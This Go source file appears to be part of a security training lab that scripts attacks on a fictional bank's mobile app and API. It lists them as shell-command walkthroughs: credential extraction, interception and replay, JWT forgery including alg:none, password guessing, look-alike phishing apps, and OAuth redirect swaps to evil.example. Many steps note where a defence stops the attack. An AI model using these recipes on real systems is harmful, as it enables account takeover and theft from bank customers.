package byhand

import "slices"

// byName are the steps of each attack that can be carried out today.
var byName = map[string][]step{
	"unknown-client": steps(
		theCA,
		say("Ask for the accounts without any credentials: `{curl} {api}/v1/accounts`."),
		say("Do it again with an ID that you make up: `{curl} -H '{proof}: key made-up' {api}/v1/accounts`.").at(withKeys),
		say("The app's ID is no secret, so take the real one, and make up a token: `{curl} -H '{proof}: key harbour-mobile' -H 'Authorization: Bearer made-up' {api}/v1/accounts`.").at(withTokens).at(unattested),
		say("Make up both tokens: `{curl} -H 'Client-Integrity-Token: made-up' -H 'Authorization: Bearer made-up' {api}/v1/accounts`.").at(attested),
		say("Make a client certificate: `openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=made-up -keyout own-key.pem -out own.pem`.").at(withCertificates),
		say("Show it: `{curl} --cert own.pem --key own-key.pem {api}/v1/accounts`. The API ends the handshake.").at(withCertificates),
		say("Sign a request with a secret that you make up: `stages sign --secret made-up {api}/v1/accounts | {curl} -K -`. Without a certificate nobody looks at the MAC.").at(signed),
		say("Try to book a transfer to your own account in the same ways: `{curl} --json '{rob}' {api}/v1/transfers`."),
	),
	"flood": steps(
		theCA,
		thePackage.at(withKeys),
		say("Take the app's credentials out of it: `stages loot {package}`.").at(withKeys),
		say("Call for the exchange rates 200 times over one connection, and count the statuses: `{fetch} {field} -o /dev/null -w '%{http_code}\\n' '{api}/v1/rates?n=[1-200]' | sort | uniq -c`.").at(withKeys),
		say("Take the app's credentials out of its memory, on your own phone: `mobileclient --phone mallory --stage {stage} --memory memory.bin rates`, then `stages loot memory.bin`.").at(signed),
		say("Sign a call for the exchange rates, and have curl make it 200 times over one connection: `{sign} {device} {api}/v1/rates > flood.curl`, then `printf 'url = \"{api}/v1/rates\"\\noutput = \"/dev/null\"\\n%.0s' $(seq 200) >> flood.curl`.").at(signed),
		say("Count the statuses: `{fetch} -K flood.curl -o /dev/null -w '%{http_code}\\n' | sort | uniq -c`.").at(signed),
		say("Take the app's client integrity token out of its memory, on your own phone: `mobileclient --phone mallory --stage {stage} --memory memory.bin rates`, then `stages loot memory.bin`.").at(attested),
		say("Call for the exchange rates 200 times over one connection, and count the statuses: `{fetch} -H @loot/integrity.txt -o /dev/null -w '%{http_code}\\n' '{api}/v1/rates?n=[1-200]' | sort | uniq -c`.").at(attested),
		say("See in the fields RateLimit-Policy and Retry-After what is allowed: `{curl} {api}/v1/rates`."),
	),
	"wiretap": steps(
		beside("be the wireless network that the victim's phone joins, and listen: `stages intercept network --listen {here} > heard.txt`. With the rights for it, `tcpdump -A` shows the same of any network."),
		victimPays,
		say("Look for the app's credentials in what you heard: `grep -a -i '^authorization:' heard.txt`."),
		say("Send a transfer of your own with what you heard: `{curl} -H \"$(grep -a -i -m 1 '^authorization:' heard.txt | tr -d '\\r')\" --json '{rob}' {api}/v1/transfers`.").at(inTheClear),
		say("There is none, only how much was said: this is where it ends.").at(overTLS),
	),
	"url-leak": steps(
		say("Wait until the victim looks at the exchange rates: `mobileclient --phone alice --stage {stage} rates`."),
		say("Get a copy of the server's access log, from a backup or from the log service: `stages access-log | grep 'GET /{stage}/' > access.log`."),
		say("Search it for keys: `grep -o 'key=[a-z][a-z-]*' access.log`."),
		say("Book a transfer with the key that you found: `{curl} --json '{rob}' \"{api}/v1/transfers?$(grep -o -m 1 'key=[a-z][a-z-]*' access.log)\"`.").at(keysInURLs),
		say("No URL carries one: this is where it ends.").at(noKeysInURLs),
	),
	"wire-tamper": steps(
		beside("be the wireless network that the victim's phone joins. Payments that are in the clear go to your own account; where they are encrypted, you answer in the server's place, with a certificate of your own making: `stages intercept network --listen {here} --payee HB-3001 > changed.txt`."),
		victimPays,
		say("See what you did: `cat changed.txt`."),
	),
	"trusted-proxy": steps(
		beside("start a proxy that makes certificates on the fly, as mitmproxy does: `stages intercept proxy --listen 127.0.0.1:8081 --ca own-ca.pem > seen.txt`."),
		say("Have the genuine app on your own phone go through it, with your CA in the phone's trust store: `mobileclient --phone mallory --stage {stage} --proxy http://127.0.0.1:8081 --trust own-ca.pem accounts`.").at(withoutUsers),
		passwordOf("mallory"),
		say("Have the genuine app on your own phone go through it, with your CA in the phone's trust store, and sign in: `mobileclient --phone mallory --stage {stage} --proxy http://127.0.0.1:8081 --trust own-ca.pem sign-in --user mallory --password-file mallory.txt`.").at(withUsers),
		say("The app does not accept your proxy, whatever its phone trusts: this is where it ends.").at(pinned).at(inTheApp),
		say("The app does not accept your proxy, whatever its phone trusts. The page on which you signed in came to you through it, but what that leads back with is a code, which is worth nothing without the app's secret: this is where it ends.").at(withCodes).at(appSecret),
		say("The app does not accept your proxy, whatever its phone trusts. The page on which you signed in came to you through it, but what that leads back with is a code, which the mediator takes from a genuine app alone: this is where it ends.").at(mediated).at(inURLs),
		say("The app does not accept your proxy, whatever its phone trusts. Before any page opens it asks the mediator for one, and does not get so far: this is where it ends.").at(pushes),
		say("The app does not accept your proxy, whatever its phone trusts. But the page on which you signed in was the user agent's business. Take the access token out of the redirect that the proxy has seen: `grep -a -o -m 1 'access_token=[^&]*' seen.txt | cut -d = -f 2 > token.txt`.").at(inFragments),
		say("Read the credentials in what the proxy has seen: `grep -a -i '^authorization:' seen.txt`.").at(notPinned),
		theCA.at(inFragments),
		say("Book a transfer with a program of your own: `{curl} -H '{proof}: key harbour-mobile' -H \"Authorization: Bearer $(cat token.txt)\" --json '{own payment}' {api}/v1/transfers`.").at(inFragments),
		theCA.at(notPinned),
		say("Book a transfer with a program of your own: `{curl} -H \"$(grep -a -i -m 1 '^authorization:' seen.txt | tr -d '\\r')\" --json '{rob}' {api}/v1/transfers`.").at(notPinned),
	),
	"repin": steps(
		thePackage,
		say("Look into the zip archive behind its program: `unzip -p {package} settings.json`."),
		say("There is no list of pins in it to write your own into, and this is where it ends: `stages pack --set 'SERVER_PINS=[]' {package} repinned.pkg`.").at(secretsHidden),
		say("Keep the client certificate and its key for your proxy, which the API will ask for them: `stages loot {package}`.").at(secretsInClear),
		say("Make a key for your proxy and compute its pin, as those in SERVER_PINS are: `openssl ecparam -name prime256v1 -genkey -noout -out proxy-key.pem`, then `pin=$(openssl pkey -in proxy-key.pem -pubout -outform DER | openssl dgst -sha256 -binary | openssl base64)`.").at(pinsInClear),
		say("Write the pin into the package, pack it again, and sign it with a key of your own: `stages pack --set SERVER_PINS=\"[\\\"sha256/$pin\\\"]\" {package} repinned.pkg`.").at(pinsInClear),
		beside("start a proxy with that key, which shows the app's certificate to the API: `stages intercept proxy --listen 127.0.0.1:8081 --ca own-ca.pem --key proxy-key.pem --cert loot/app.pem > seen.txt`.").at(secretsInClear),
		beside("start a proxy with that key: `stages intercept proxy --listen 127.0.0.1:8081 --ca own-ca.pem --key proxy-key.pem > seen.txt`.").at(noSecrets),
		say("Install the changed app on your own phone, which trusts your CA and goes through your proxy: `mobileclient --phone mallory --stage {stage} --package repinned.pkg --proxy http://127.0.0.1:8081 --trust own-ca.pem accounts`.").at(secretsInClear),
		passwordOf("mallory").at(noSecrets),
		say("Install the changed app on your own phone, which trusts your CA and goes through your proxy, and sign in: `mobileclient --phone mallory --stage {stage} --package repinned.pkg --proxy http://127.0.0.1:8081 --trust own-ca.pem sign-in --user mallory --password-file mallory.txt`. The proxy reads along, but the app is another package than the one that was published, so nobody is signed in: this is where it ends.").at(noSecrets),
		say("Read the accounts in what the proxy has seen: `grep -a '\"balance\"' seen.txt`.").at(secretsInClear),
	),
	"static-extract": steps(
		theCA, thePackage,
		say("Read its settings: `unzip -p {package} settings.json`.").at(pinsInClear),
		say("Its settings hold no secret: `unzip -p {package} settings.json`.").at(secretsHidden),
		say("Search all of it, the program and the pictures, too, as it is and decoded from base64 and hexadecimal: `stages loot {package}`."),
		say("No secret is among what was found, and no private key: this is where it ends.").at(secretsHidden).at(byNoKey),
		say("The app's ID is among it, and nothing that would prove it. Try that: `{curl} --json '{own payment}' {api}/v1/transfers`.").at(noSecrets),
		say("The app's ID is among it, which is no secret, and all that the app has to say of itself here.").at(secretsHidden).at(withKeys),
		passwordOf("mallory").at(withKeys), ownToken, ownSignIn.at(withKeys),
		book("HB-3001", "HB-2001", "own-session.txt").at(withTokens).at(withKeys),
		ownDevice.at(secretsInClear),
		book("HB-1001", "HB-3001", "own-device.txt").at(secretsInClear),
	),
	"memory-hook": steps(
		theCA,
		passwordOf("mallory"), signIn("mallory"),
		hooked,
		ownSession, ownToken, ownSignIn.at(unmediated),
		book("HB-1001", "HB-3001", "loot/device.txt").at(withoutUsers),
		book("HB-3001", "HB-2001", "own-session.txt").at(withUsers).at(unmediated),
		say("Ask for a token all the same, with a code or any other text: `{curl} -d grant_type=authorization_code -d redirect_uri=com.harbourbank.app:/callback -d code=made-up {tokens}/token`. The mediator looks at the app first, and your program has nothing to show.").at(mediated),
	),
	"repackaged-app": steps(
		thePackage,
		say("Take it apart, raise TRANSFER_CAP, the largest transfer that the app lets its user make (in cents), pack it again, and sign it with a key of your own: `stages pack --set TRANSFER_CAP=100000000 {package} changed.pkg`."),
		passwordOf("mallory"),
		say("Install it on your own phone, with installing from unknown sources allowed, and sign in: `mobileclient --phone mallory --stage {stage} --package changed.pkg sign-in --user mallory --password-file mallory.txt`.").at(staysSignedIn),
		say("The mediator looks at the app before it has the code exchanged, and nobody is signed in: this is where it ends.").at(mediated).at(inURLs),
		say("The mediator looks at the app before it takes its request, and no page opens: this is where it ends.").at(pushes),
		say("Make a transfer above 1,000.00 with it, as its user: `mobileclient --phone mallory --stage {stage}{as mallory} --package changed.pkg transfer --from HB-3001 --to HB-2001 --amount 1500.00 --reference {attack}`.").at(unmediated),
	),
	"instrumented-app": steps(
		passwordOf("mallory"), signIn("mallory"),
		say("Make a transfer above 1,000.00 with the genuine app on your own phone: `mobileclient --phone mallory --stage {stage}{as mallory} transfer --from HB-3001 --to HB-2001 --amount 1500.00 --reference refused`. The app itself refuses."),
		say("Do it again under a debugger that finds the largest transfer allowed, 100000 cents, in the memory of the process and writes a larger number there: `mobileclient --phone mallory --stage {stage}{as mallory} --debug 100000=100000000 transfer --from HB-3001 --to HB-2001 --amount 1500.00 --reference {attack}`. gdb and Frida do the same for whoever has found the place."),
	),
	"hash-spoof": steps(
		theCA, thePackage,
		ownAccess,
		say("Compute the hash of the genuine package, as everybody can who has it: `openssl dgst -sha256 -r {package} | cut -d ' ' -f 1 > hash.txt`."),
		say("Write down the evidence: `printf '{\"measurement\":\"%s\"}' $(cat hash.txt) > evidence.json`.").at(hashed),
		say("A hash is not enough here, and you have nothing but that. Write it down with an answer and findings that you make up: `printf '{\"measurement\":\"%s\",\"answer\":\"%s\",\"findings\":{\"traced\":false,\"injected\":false,\"unlocked\":false,\"other_signer\":false,\"intercepted\":false}}' $(cat hash.txt) $(openssl rand -base64 32) > evidence.json`.").at(challenged),
		attest,
	),
	"attestation-replay": steps(
		theCA,
		ownAccess,
		say("Have the genuine app on your own phone attested, and write down its memory: `mobileclient --phone mallory --stage {stage} --memory memory.bin rates`.").at(mediated),
		say("Find in its memory what it has sent to the attestation service: `grep -a -o '{\"measurement\":\"[0-9a-f]\\{64\\}\"[^{}]*\\({[^{}]*}\\)\\{0,1\\}}' memory.bin | tail -n 1 > evidence.json`."),
		attest,
	),
	"challenge-oracle": steps(
		theCA, thePackage,
		ownAccess,
		say("Compute the hash of the package, which is all that is asked for here: `printf '{\"measurement\":\"%s\"}' $(openssl dgst -sha256 -r {package} | cut -d ' ' -f 1) > evidence.json`.").at(hashed),
		attest.at(hashed),
		say("Write a program that looks up in the package what it is asked for, and says that nothing is wrong: `printf '%s\\n' 'import base64, hashlib, hmac, json' 's, p = json.load(open(\"session.json\")), open(\"{package}\", \"rb\").read()' 'm = hmac.new(base64.b64decode(s[\"nonce\"]), b\"keyladder attestation 1\\n\", \"sha256\")' 'm.update(len(s[\"ranges\"]).to_bytes(8, \"big\"))' 'for r in s[\"ranges\"]: m.update(r[\"offset\"].to_bytes(8, \"big\") + r[\"length\"].to_bytes(8, \"big\"))' 'm.update(bytes(1))' 'for r in s[\"ranges\"]: m.update((p + p[:r[\"length\"]])[r[\"offset\"]:r[\"offset\"] + r[\"length\"]])' 'found = dict.fromkeys([\"traced\", \"injected\", \"unlocked\", \"other_signer\", \"intercepted\"], False)' 'print(json.dumps({\"measurement\": hashlib.sha256(p).hexdigest(), \"answer\": base64.b64encode(m.digest()).decode(), \"findings\": found}))' > answer.py`.").at(challenged),
		say("Open a session at the attestation service, and answer it within five seconds: `{open} && python3 answer.py > evidence.json && {answer}`. From then on you have a minute.").at(challenged),
		bookAttested.at(challenged),
	),
	"token-lift": steps(
		theCA,
		passwordOf("mallory"), signIn("mallory"),
		hooked,
		say("Among it is what stands for you and for your phone, which the same memory holds: `cat loot/user.txt`."),
		book("HB-3001", "HB-2001", "loot/user.txt"),
	),
	"replay": steps(
		beside("be the machine at which TLS ends, and keep a log of complete calls: `{terminator} --listen {here} > calls.log`."),
		victimPays,
		say("Find the victim's payment in the log: `grep /v1/transfers calls.log | tail -n 1 > payment.json`."),
		say("Send the same bytes to the API again, from there: `stages intercept send < payment.json`. Where requests are signed, or carry tokens that live for a minute, you have a minute."),
		say("Look at the victim's account: was the payment booked twice? `mobileclient --phone alice --stage {stage}{as alice} transfers HB-1001`"),
	),
	"proxy-tamper": steps(
		beside("be the load balancer at which TLS ends, and put your own account in the place of the payee before payments go on: `{terminator} --listen {here} --payee HB-3001 > calls.log`. The client's certificate goes along in the field where the API expects it, and a MAC stays the one for the payment as it was."),
		victimPays,
		say("Look at the victim's account: to whom did the money go? `mobileclient --phone alice --stage {stage}{as alice} transfers HB-1001`"),
	),
	"stolen-bearer": steps(
		beside("be the machine at which TLS ends, and keep a log of complete calls: `{terminator} --listen {here} > calls.log`."),
		victimPays,
		say("Take the Authorization field and the client's certificate out of one of the victim's calls, and leave the rest: `tail -n 1 calls.log | python3 -c 'import json, sys; c = json.load(sys.stdin); print(json.dumps({\"method\": \"GET\", \"path\": \"/{stage}/v1/accounts\", \"certificate\": c.get(\"certificate\"), \"header\": {\"Host\": c[\"header\"][\"Host\"], \"User-Agent\": c[\"header\"][\"User-Agent\"], \"Authorization\": c[\"header\"][\"Authorization\"]}}))' > own-call.json`.").at(signed),
		say("Take the Authorization field out of one of the victim's calls, put the app's ID beside it, which is no secret, and leave the rest: `tail -n 1 calls.log | python3 -c 'import json, sys; c = json.load(sys.stdin); print(json.dumps({\"method\": \"GET\", \"path\": \"/{stage}/v1/accounts\", \"header\": {\"Host\": c[\"header\"][\"Host\"], \"User-Agent\": c[\"header\"][\"User-Agent\"], \"{proof}\": [\"key harbour-mobile\"], \"Authorization\": c[\"header\"][\"Authorization\"]}}))' > own-call.json`.").at(withKeys),
		say("Take the Authorization field out of one of the victim's calls, and leave the client integrity token and the rest: `grep /v1/transfers calls.log | tail -n 1 | python3 -c 'import json, sys; c = json.load(sys.stdin); print(json.dumps({\"method\": \"GET\", \"path\": \"/{stage}/v1/accounts\", \"header\": {\"Host\": c[\"header\"][\"Host\"], \"User-Agent\": c[\"header\"][\"User-Agent\"], \"Authorization\": c[\"header\"][\"Authorization\"]}}))' > own-call.json`.").at(attested),
		say("Ask for the victim's accounts with that, from there: `stages intercept send < own-call.json`. Is it the victim's data, or a challenge?"),
	),
	"password-guess": steps(
		say("Take the name of a customer, which is no secret: alice. Get a list of common passwords."),
		theCA,
		say("Try the first: `{curl} -u alice:123456 -X POST {api}/v1/session`. Then the next.").at(withSessions),
		say("Try the first, in the name of the app: `{curl} -d 'grant_type=password&client_id=harbour-mobile&username=alice&password=123456' {api}/v1/token`. Then the next. After a handful, read the status and Retry-After.").at(byPassword),
		say("Open the page on which users sign in: `{fetch} -c cookies.txt -o page.html '{page}'`.").at(onPages),
		say("Try the first: `{fetch} -b cookies.txt -o answer.html -D - -d \"interaction=$(grep -o 'name=\"interaction\" value=\"[A-Z0-9]*' page.html | cut -d '\"' -f 4)\" -d username=alice -d password=123456 {auth}/sign-in`. The page is shown again. Then the next. After a handful, read the status and Retry-After.").at(onPages),
		say("When one fits, transfer the victim's money to your own account."),
		say("To see what waits behind the app's proof, do it again with that proof, as the stage's curl commands have it, and the name of nobody. After a handful, read the status and Retry-After.").at(signed).at(inTheApp),
	),
	"password-grab": steps(
		thePackage,
		beside("make an app with the label and the pictures of the bank's, whose program is your own, and wait for what people type into it: `stages intercept look-alike --listen 127.0.0.1:8083 {package} look-alike.pkg > typed.txt`."),
		passwordOf("alice"),
		say("Get it to the victim, through the app store or with a link in a message, and wait until she signs in with it: `mobileclient --phone alice --stage {stage} --package look-alike.pkg sign-in --user alice --password-file alice.txt`. She is told that the bank is being serviced.").at(inTheApp),
		say("Get it to the victim. The bank's app never asks her for the password: it opens the bank's page. Yours asks, so she types nothing, and this is where it ends: `cat typed.txt`.").at(onPages),
		say("Read what she typed: `python3 -c 'import json; print(json.loads(open(\"typed.txt\").readline())[\"password\"])' > stolen.txt`.").at(inTheApp),
		say("Type it into the genuine app on your own phone: `mobileclient --phone mallory --stage {stage} sign-in --user alice --password-file stolen.txt`.").at(staysSignedIn).at(inTheApp),
		say("Transfer the victim's money to your own account: `mobileclient --phone mallory --stage {stage} transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`.").at(staysSignedIn).at(inTheApp),
		say("Type it into the genuine app on your own phone, and transfer the victim's money to your own account: `mobileclient --phone mallory --stage {stage} --user alice --password-file stolen.txt transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`.").at(forgetsUsers).at(inTheApp),
	),
	"backup-theft": steps(
		theCA,
		backup,
		say("Search it for the session key and for how the phone is registered: `stages loot --into stolen backup/*/*`.").at(staysSignedIn).at(withSessions),
		say("Search it for the refresh token: `stages loot --into stolen backup/*/*`.").at(withRefresh),
		passwordOf("mallory").at(staysSignedIn).at(unmediated), signIn("mallory").at(unmediated),
		hooked.at(staysSignedIn).at(unmediated),
		book("HB-1001", "HB-3001", "stolen/user.txt").at(withSessions),
		renew("stolen/refresh-token").at(withRefresh).at(unmediated),
		book("HB-1001", "HB-3001", "stolen.txt").at(withRefresh).at(unmediated),
		say("Try to trade it for an access token: `{curl} -d grant_type=refresh_token --data-urlencode \"refresh_token=$(cat stolen/refresh-token)\" {tokens}/token`. The mediator looks at the app first, and your program has nothing to show.").at(mediated),
		nothingStored,
	),
	"backup-restore": steps(
		backup,
		nothingStored,
		say("Get a new phone, and put the copy into the app's storage there, as phones restore a backup: `mkdir -p {new phone} && cp -R backup {new phone}/storage`."),
		say("Start the app. It takes you for the victim: `mobileclient --phone new-{stage} --stage {stage} transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`. But your phone is another device, whatever is in its storage, and the session is not good on it.").at(withSessions),
		say("Start the app. It takes you for the victim, and renews the access token with the refresh token that is in the copy: `mobileclient --phone new-{stage} --stage {stage} transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`.").at(withRefresh).at(ofAnyDevice),
		say("Start the app. It takes you for the victim, and wants to renew the access token with the refresh token that is in the copy: `mobileclient --phone new-{stage} --stage {stage} transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`. But the refresh token is of the victim's phone, and yours is attested as another one: this is where it ends.").at(ofOneDevice),
		say("Start the app. Nobody is signed in: `mobileclient --phone new-{stage} --stage {stage} transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`.").at(forgetsUsers),
	),
	"token-forge": steps(
		theCA,
		passwordOf("mallory"),
		say("Get a token of your own, as any customer does: `stages token --stage {stage} --user mallory > own.txt`.").at(unattested),
		say("Get a token of your own, as any customer does: `stages token --stage {stage} --user mallory > tokens.txt && grep -i ^authorization: tokens.txt > own.txt`.").at(attested),
		say("Calls need a client integrity token as well. What is in one everybody can read in their own. Sign that with a key that you guess: `python3 -c 'import base64, hmac, re; signed = re.search(\"(?i)client-integrity-token: (.*)[.]\", open(\"tokens.txt\").read())[1]; print(\"Client-Integrity-Token: \" + signed + \".\" + base64.urlsafe_b64encode(hmac.digest(b\"guess\", signed.encode(), \"sha256\")).decode().rstrip(\"=\"))' > forged-proof.txt`.").at(attested),
		say("Read it. It is signed, and not encrypted: `python3 -c 'import base64, re; print(*(base64.urlsafe_b64decode(part + \"==\").decode() for part in re.search(\"Bearer (.*)[.]\", open(\"own.txt\").read())[1].split(\".\")), sep=\"\\n\")'`."),
		say("Write another name into it, and leave the signature as it is: `python3 -c 'import base64, re; field = open(\"own.txt\").read(); claims = re.search(\"[.](.*)[.]\", field)[1]; changed = base64.urlsafe_b64decode(claims + \"==\").replace(b\"mallory\", b\"alice\"); open(\"forged.txt\", \"w\").write(field.replace(claims, base64.urlsafe_b64encode(changed).decode().rstrip(\"=\")))'`."),
		say("Use it: `{curl} {forged proof} -H @forged.txt {api}/v1/accounts`."),
		say("Say that it needs no signature, and leave that out: `python3 -c 'import base64, re; field = open(\"forged.txt\").read(); none = base64.urlsafe_b64encode(b\"{\\\"alg\\\":\\\"none\\\",\\\"typ\\\":\\\"at+jwt\\\"}\").decode().rstrip(\"=\"); open(\"none.txt\", \"w\").write(re.sub(\"Bearer .*?[.](.*)[.].*\", \"Bearer \" + none + r\".\\1.\", field))'`, then `{curl} {forged proof} -H @none.txt {api}/v1/accounts`."),
		say("Sign it with keys that you guess, or that come along in its header, and so on: the attack tries some seventy tokens, and says what each is."),
	),
	"agent-spy": steps(
		theCA,
		passwordOf("alice"),
		say("The victim signs in, and an extension in the user agent tells you the addresses that it goes through: `mobileclient --phone alice --stage {stage} --spy addresses.txt sign-in --user alice --password-file alice.txt`."),
		say("Look at the one that leads back to the app: `grep '^com.harbourbank.app:' addresses.txt | cut -c 1-80`."),
		say("Take the access token out of its fragment: `grep -o 'access_token=[^&]*' addresses.txt | cut -d = -f 2 > token.txt`.").at(inFragments),
		say("Book a transfer with a program of your own: `{curl} -H '{proof}: key harbour-mobile' -H \"Authorization: Bearer $(cat token.txt)\" --json '{rob}' {api}/v1/transfers`.").at(inFragments),
		say("Take the code out of it: `grep -o 'code=[^&]*' addresses.txt | tail -n 1 | cut -d = -f 2 > code.txt`.").at(withCodes),
		say("Try to exchange it. Without the app's secret you are nobody: `{curl} -d client_id=harbour-mobile -d grant_type=authorization_code -d redirect_uri=com.harbourbank.app:/callback --data-urlencode \"code=$(cat code.txt)\" {auth}/token`.").at(withCodes).at(unmediated),
		tryToExchange.at(mediated),
	),
	"redirect-swap": steps(
		theCA,
		say("Ask for the page on which users sign in, and for an address of yours to lead back to: `{curl} -G -d '{asked for}' --data-urlencode redirect_uri=https://evil.example/callback {auth}/authorize`. The page says that it leads nobody there.").at(inURLs),
		say("Try one that begins like the app's: `{curl} -G -d '{asked for}' --data-urlencode redirect_uri=com.harbourbank.app:/callback/../evil {auth}/authorize`.").at(inURLs),
		say("Try one in which a careless reader finds the right host: `{curl} -G -d '{asked for}' --data-urlencode redirect_uri=https://localhost@evil.example/callback {auth}/authorize`.").at(inURLs),
		say("And both, the right one first: `{curl} -G -d '{asked for}' --data-urlencode redirect_uri=com.harbourbank.app:/callback --data-urlencode redirect_uri=https://evil.example/callback {auth}/authorize`.").at(inURLs),
		say("Open the page with the request in its address, as it was before requests were pushed. The mediator knows no such request: `{curl} -G -d '{asked for}' --data-urlencode redirect_uri=https://evil.example/callback {tokens}/authorize`.").at(pushes),
		say("Push a request for an address of yours. The mediator takes that from genuine apps alone: `{curl} -d '{asked for}' --data-urlencode redirect_uri=https://evil.example/callback {tokens}/par`.").at(pushes),
	),
	"code-hijack": steps(
		theCA, thePackage, theThief(""),
		say("Take the access token out of the link that came to yours: `python3 -c 'import json, urllib.parse as u; print(u.parse_qs(u.urlsplit(json.loads(open(\"caught.txt\").readline())[\"link\"]).fragment)[\"access_token\"][0])' > token.txt`.").at(inFragments),
		say("Book a transfer with a program of your own: `{curl} -H '{proof}: key harbour-mobile' -H \"Authorization: Bearer $(cat token.txt)\" --json '{rob}' {api}/v1/transfers`.").at(inFragments),
		passwordOf("mallory").at(appSecret), signIn("mallory").at(appSecret),
		hooked.at(appSecret),
		redeem("code.txt").at(appSecret),
		book("HB-1001", "HB-3001", "stolen.txt").at(appSecret),
		tryToExchange.at(mediated),
	),
	"code-relay": steps(
		thePackage, theThief(""),
		say("Begin to sign in with the genuine app on your own phone, open it with a link that carries its own state and the victim's code, and transfer the victim's money: `mobileclient --phone relay-{stage} --stage {stage} --relay-code \"$(cat code.txt)\" transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`.").at(inURLs),
		passwordOf("mallory").at(pushes),
		say("Begin to sign in with the genuine app on your own phone. Its state is in no address but the one that leads back, so sign in there, keep that link from the app, and open the app with one that carries its own state and the victim's code: `mobileclient --phone relay-{stage} --stage {stage} --user mallory --password-file mallory.txt --relay-code \"$(cat code.txt)\" transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`. The code is bound to a verifier that the victim's app has made up, and to her phone.").at(pushes),
	),
	"verifier-spy": steps(
		theCA, thePackage,
		passwordOf("mallory"), signIn("mallory"), hooked,
		theThief(" --spy addresses.txt"),
		say("An extension in her user agent has told you the addresses that it went through. What the code is bound to stands in the first: `grep -o 'code_challenge=[^&]*' addresses.txt | head -n 1 | cut -d = -f 2 > verifier.txt`.").at(withChallenges),
		say("That is the verifier itself. Exchange the code with it, and with the client integrity token of your own app, while that is good: `{fetch} -H @loot/integrity.txt -d grant_type=authorization_code -d redirect_uri=com.harbourbank.app:/callback --data-urlencode \"code=$(cat code.txt)\" --data-urlencode \"code_verifier=$(cat verifier.txt)\" {tokens}/token > token.json`.").at(inRequests),
		say("Keep the field that stands for the victim: `python3 -c 'import json; print(\"Authorization: Bearer\", json.load(open(\"token.json\"))[\"access_token\"])' > stolen.txt`.").at(inRequests),
		say("Transfer the victim's money to your own account: `{curl} -H @loot/integrity.txt -H @stolen.txt --json '{rob}' {api}/v1/transfers`.").at(inRequests),
		say("That is the hash of the verifier. Try it in its place, with the client integrity token of your own app: `{curl} -H @loot/integrity.txt -d grant_type=authorization_code -d redirect_uri=com.harbourbank.app:/callback --data-urlencode \"code=$(cat code.txt)\" --data-urlencode \"code_verifier=$(cat verifier.txt)\" {tokens}/token`. Nothing fits the hash but the verifier, which is in the memory of the victim's app.").at(hashedInRequests),
	),
	"weak-provider": steps(
		thePackage, theThief(" --provider lite"),
		say("Begin to sign in with the genuine app on your own phone, open it with a link that carries its own state and the victim's code, and transfer the victim's money: `mobileclient --phone relay-{stage} --stage {stage} --provider lite --relay-code \"$(cat code.txt)\" transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`.").at(inURLs),
		passwordOf("mallory").at(pushes),
		say("Begin to sign in with the genuine app on your own phone. Its state is in no address but the one that leads back, so sign in there, keep that link from the app, and open the app with one that carries its own state and the victim's code: `mobileclient --phone relay-{stage} --stage {stage} --user mallory --password-file mallory.txt --provider lite --relay-code \"$(cat code.txt)\" transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`. The code is bound to a verifier that the victim's app has made up, and to her phone.").at(pushes),
	),
	"refresh-reuse": steps(
		theCA,
		backup,
		say("The victim uses the app again, which trades the refresh token in the copy for the next: `mobileclient --phone lost-{stage} --stage {stage} accounts`."),
		say("Search the copy for the old one: `stages loot --into stolen backup/*/*`."),
		passwordOf("mallory"), signIn("mallory"),
		hooked,
		say("Use it. It is refused: `{curl} -u \"harbour-mobile:$(cat loot/secret)\" -d grant_type=refresh_token --data-urlencode \"refresh_token=$(cat stolen/refresh-token)\" {auth}/token`.").at(unmediated),
		say("Use it, with your own app's client integrity token. The mediator lets it pass, and the authorization server refuses it: `{curl} -H @loot/integrity.txt -d grant_type=refresh_token --data-urlencode \"refresh_token=$(cat stolen/refresh-token)\" {tokens}/token`.").at(mediated).at(ofAnyDevice),
		say("Use it, with your own app's client integrity token. It says that you are on another phone than the one that the family belongs to, so the mediator refuses it, and leaves the family alone: `{curl} -H @loot/integrity.txt -d grant_type=refresh_token -d client_id=harbour-mobile --data-urlencode \"refresh_token=$(cat stolen/refresh-token)\" {tokens}/token`.").at(ofOneDevice),
		say("And the victim has to sign in anew, because nobody can tell which of the two of you is the thief: `mobileclient --phone lost-{stage} --stage {stage} accounts`.").at(ofAnyDevice),
	),
}

// theThief is an app beside the genuine one on the victim's phone, to which the redirect goes. The
// flags are for that phone.
func theThief(flags string) walk {
	return slices.Concat(
		beside("make an app of your own that claims the links which lead back to the bank's, and wait for what comes: `stages intercept look-alike --claim-links --listen 127.0.0.1:8083 {package} thief.pkg > caught.txt`."),
		passwordOf("alice"),
		say("Get it onto the victim's phone, beside the bank's app, and wait until she signs in with that: `mobileclient --phone robbed-{attack}-{stage} --stage {stage}"+flags+" --beside thief.pkg sign-in --user alice --password-file alice.txt`. The app is told nothing: the phone gives the link to the app that was installed last."),
		say("Take the code out of the link that came to yours: `python3 -c 'import json, urllib.parse as u; print(u.parse_qs(u.urlsplit(json.loads(open(\"caught.txt\").readline())[\"link\"]).query)[\"code\"][0])' > code.txt`.").at(withCodes),
	)
}

// tryToExchange shows a stolen code to the mediator.
var tryToExchange = say("Try to have it exchanged: `{curl} -d grant_type=authorization_code -d redirect_uri=com.harbourbank.app:/callback --data-urlencode \"code=$(cat code.txt)\" {tokens}/token`. The mediator looks at the app before it looks at the code, and your program has nothing to show: this is where it ends.")

// ownAccess is what the attacker needs to sign in with a program of their own: the app's secret,
// where it has one.
var ownAccess = slices.Concat(
	passwordOf("mallory"),
	slices.Concat(signIn("mallory"), hooked).at(appSecret),
)

// renew trades a refresh token for an access token, and keeps the field that stands for its user.
func renew(file string) walk {
	return slices.Concat(
